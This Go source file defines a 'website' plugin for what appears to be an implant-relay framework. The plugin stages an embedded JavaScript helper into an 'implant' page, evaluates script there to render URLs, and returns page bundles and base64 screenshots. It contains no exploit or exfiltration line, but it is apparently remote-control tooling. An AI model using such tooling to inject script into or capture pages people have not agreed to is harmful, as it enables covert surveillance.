// Package website is a plugin that shows, bundles and previews web pages
// through the implant.
package website

import (
	"context"
	_ "embed"
	"encoding/base64"
	"encoding/json"
	"fmt"

	"github.com/morezero/implant-relay/pkg/plugin"
)

const (
	Name    = "website"
	Version = "1.0.0"
)

//go:embed website.js
var script []byte

type instance struct {
	cmds plugin.Commands
}

var urlParam = []plugin.Param{{Name: "url", Type: plugin.TypeString}}

// Descriptor returns the website plugin.
func Descriptor() plugin.Descriptor {
	return plugin.Descriptor{
		Name:    Name,
		Version: Version,
		Doc:     "Render, bundle and preview web pages.",
		New:     newInstance,
		Methods: []plugin.Method{
			{Name: "render", Doc: "Show url inside the implant page.", Params: urlParam, Invoke: plugin.Handler(render)},
			{Name: "bundle", Doc: "Return a self-contained HTML copy of url.", Params: urlParam, Invoke: plugin.Handler(bundle)},
			{Name: "preview", Doc: "Return a base64 PNG screenshot of url.", Params: urlParam, Invoke: plugin.Handler(preview)},
		},
	}
}

// newInstance stages the page-side helper and makes the implant load it.
func newInstance(ctx context.Context, cmds plugin.Commands) (any, error) {
	url, err := cmds.Serve(script, "js")
	if err != nil {
		return nil, fmt.Errorf("website - failed to stage script: %w", err)
	}
	if err := cmds.LoadResource(ctx, url); err != nil {
		return nil, err
	}
	return &instance{cmds: cmds}, nil
}

func render(ctx context.Context, inst *instance, args plugin.Args) (any, error) {
	url, err := args.String("url")
	if err != nil {
		return nil, err
	}
	quoted, err := json.Marshal(url)
	if err != nil {
		return nil, err
	}
	return inst.cmds.EvalScript(ctx, fmt.Sprintf("return load_website_plugin(%s);", quoted))
}

func bundle(ctx context.Context, inst *instance, args plugin.Args) (any, error) {
	url, err := args.String("url")
	if err != nil {
		return nil, err
	}
	html, err := inst.cmds.BundlePage(ctx, url)
	if err != nil {
		return nil, err
	}
	return map[string]string{"url": url, "html": html}, nil
}

func preview(ctx context.Context, inst *instance, args plugin.Args) (any, error) {
	url, err := args.String("url")
	if err != nil {
		return nil, err
	}
	png, err := inst.cmds.CapturePreview(ctx, url)
	if err != nil {
		return nil, err
	}
	return map[string]string{"url": url, "image": base64.StdEncoding.EncodeToString(png)}, nil
}
